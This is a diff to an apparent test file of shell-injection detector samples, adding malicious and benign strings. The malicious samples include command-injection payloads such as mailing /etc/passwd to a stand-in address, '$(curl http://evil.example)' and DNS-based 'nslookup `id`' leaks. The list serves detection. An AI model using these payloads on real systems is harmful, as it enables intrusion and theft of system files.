@@ -32,6 +32,7 @@ export const shellDetectors: readonly Detector[] = [
         '127.0.0.1;id',
         'x.example;eval id',
         ...['127.0.0.1 & DIR C:\\', 'until then ;id;', 'see you ; dir'],
+        ...['ping a.example; ping -c 9 b.example', 'x; echo 1 | psql -U a shop'],
         ...['; hostname', '| history', ';mount', 'a; mail b@c.example < /etc/passwd'],
       ],
       benign: [
@@ -42,6 +43,8 @@ export const shellDetectors: readonly Detector[] = [
         'mysqldump shop > shop.sql; gzip shop.sql',
         ...['a & b; more or less', "ls -la | awk '{print $5, $9}'", 'get wget; wget --version'],
         'type; which is best; sleep well',
+        ...['ping a.example fails; ping b.example works', 'echo "SELECT 1;" | psql -U app shop'],
+        ...['all is there; ls -l a.sh shows no x', 'tasklist | findstr java'],
         ...['Tom & Jerry', 'Java | Python | Bash; SQL', 'openssl x509 -in a.pem | base64 -d | xxd'],
         'x;Ss<a',
         'x;CC',
@@ -62,8 +65,9 @@ export const shellDetectors: readonly Detector[] = [
         'x$(cat /etc/hosts)y',
         '$(curl http://evil.example)',
         ...['<(ls -la)', 'nslookup `id`.x.example', '$(`cat /etc/hosts`)'],
+        ...['`$(whoami)`', '`$(pwd)', '`$(ls /etc)`'],
       ],
-      benign: ['$(this).hide()', '$(document)', '$(id).show()', '$(5)'],
+      benign: ['use `$(pwd)` for it', '$(this).hide()', '$(document)', '$(id).show()', '$(5)'],
     },
   },
   {
